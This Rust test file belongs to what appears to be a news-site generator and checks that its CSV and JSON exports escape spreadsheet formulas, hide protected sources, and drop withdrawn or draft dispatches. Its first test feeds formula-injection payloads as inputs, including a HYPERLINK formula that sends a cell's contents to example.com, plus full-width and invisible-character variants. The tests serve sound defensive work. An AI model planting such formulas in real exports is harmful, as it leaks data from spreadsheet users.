//! What data must not do: run in a spreadsheet, or tell what is hidden, withdrawn or protected.
//! That hidden dispatches leave no trace in any file at all is tested with whole sites.

use serde_json::Value;

use crate::data::{check, dispatch, json, rows, site, text};
use crate::site::anywhere;

#[test]
fn text_that_a_spreadsheet_would_run_is_text() {
    let hostile = |title: &str| {
        let keys = format!(
            "---\ntitle: {title}\ndate: 2017-06-01\ncity: \"=2+5\"\narea: '@SUM(1,2)'\ncasualties: {{killed: 1}}\n---\n"
        );
        let pages = site(&[("content/dispatches/one.md".into(), keys)]);
        (rows(&pages, "data/incidents.csv").remove(0), pages)
    };
    let (row, pages) = hostile(r#""=HYPERLINK(\"https://example.com/?x=\"&A1,\"see\")""#);
    check(&row, "title '=HYPERLINK(\"https://example.com/?x=\"&A1,\"see\"), cities '=2+5");
    check(&row, "killed_min 1");
    assert_eq!(row["area"], "'@SUM(1,2)");
    assert_eq!(rows(&pages, "data/tolls.csv").last().expect("a row")["city"], "'=2+5");
    let map = json(&pages, "data/incidents.geojson");
    assert_eq!(map["features"][0]["properties"]["area"], "@SUM(1,2)", "JSON is no spreadsheet");
    for start in ["+1", "-1", "@x", "=1"] {
        let (row, _) = hostile(&format!("\"{start} and more\""));
        assert_eq!(row["title"], format!("'{start} and more"));
    }
    // The wide and small forms are read as the plain ones in some languages, and what cannot be seen may be dropped.
    for start in ["＝1", "＋1", "－1", "＠x", "﹦1", "\u{2212}1", "\u{200b}＝1", "\u{2060}\u{a0}@x"]
    {
        let (row, _) = hostile(&format!("\"{start} and more\""));
        assert_eq!(row["title"], format!("'{start} and more"));
    }
    let (row, _) = hostile("Plain = text");
    assert_eq!(row["title"], "Plain = text");
}

#[test]
fn quotes_commas_and_lines_stay_inside_their_cell() {
    let keys = "---\ntitle: \"He said: \\\"no, never\\\"\"\ndate: 2017-06-01\ncity: Mosul\narea: \"first\\nsecond\"\ncasualties: {killed: 1}\n---\n";
    let pages = site(&[("content/dispatches/one.md".into(), keys.into())]);
    let row = rows(&pages, "data/incidents.csv").remove(0);
    assert_eq!(row["title"], "He said: \"no, never\"");
    let bytes = text(&pages, "data/tolls.csv");
    assert!(bytes.starts_with("city,"), "no mark before the first name");
    assert!(
        bytes.ends_with("\r\n") && !bytes.replace("\r\n", "").contains('\n'),
        "lines end in CR LF"
    );
}

#[test]
fn a_protected_source_is_not_among_the_sources() {
    let pages = site(&[dispatch(
        "told",
        "date: 2017-06-02\ncity: Mosul\nsources: [{id: ahmed, name: Doctor Ahmed, protect: true}, {name: A paper, syndicated_from: ahmed}]\nclaims: [{by: A doctor, killed: 3, source: ahmed}]",
    )]);
    let told = &json(&pages, "data/dispatches.json")[0];
    assert_eq!(told["sources"].as_array().map(Vec::len), Some(1));
    assert_eq!(told["sources"][0]["syndicated_from"], Value::Null);
    assert_eq!(told["claims"][0]["source"], Value::Null);
    assert_eq!(anywhere(&pages, "hmed"), Vec::<String>::new());
}

#[test]
fn of_a_withdrawn_dispatch_the_data_say_that_it_was_withdrawn() {
    let pages = site(&[
        dispatch("open", "date: 2017-06-01\ncity: Mosul\ncasualties: {killed: 12}"),
        dispatch(
            "wrong",
            "date: 2017-06-02\ncity: Tikrit\nincident: open\nlocation: {lat: 1.5, lon: 2.5}\ncasualties: {killed: 777}\nwithdrawn: {on: 2017-06-05, why: The place was wrong}",
        ),
    ]);
    let wrong = &json(&pages, "data/dispatches.json")[1];
    for (field, value) in wrong.as_object().expect("an object") {
        let is_said = !(value.is_null() || value.as_array().is_some_and(Vec::is_empty));
        assert_eq!(
            is_said,
            ["slug", "url", "withdrawn"].contains(&field.as_str()),
            "{field}: {value}"
        );
    }
    assert_eq!(wrong["withdrawn"]["why"], "The place was wrong");
    let incidents = rows(&pages, "data/incidents.csv");
    assert_eq!(incidents.len(), 1);
    check(&incidents[0], "id open, dispatches open, killed_min 12, cities Mosul, lat -");
}

#[test]
fn a_draft_is_in_no_file_of_data() {
    let hidden =
        dispatch("secret", "date: 2017-06-02\ncity: Tikrit\ndraft: true\ncasualties: {killed: 99}");
    let later = dispatch(
        "later",
        "date: 2017-06-02\ncity: Tikrit\nembargo: 2017-07-01\ncasualties: {killed: 98}",
    );
    let open = dispatch("open", "date: 2017-06-01\ncity: Mosul\ncasualties: {killed: 12}");
    let (with, without) = (site(&[open.clone(), hidden, later]), site(&[open]));
    for file in with.keys().filter(|file| file.starts_with("data/")) {
        assert_eq!(with[file], without[file], "{file}");
    }
}
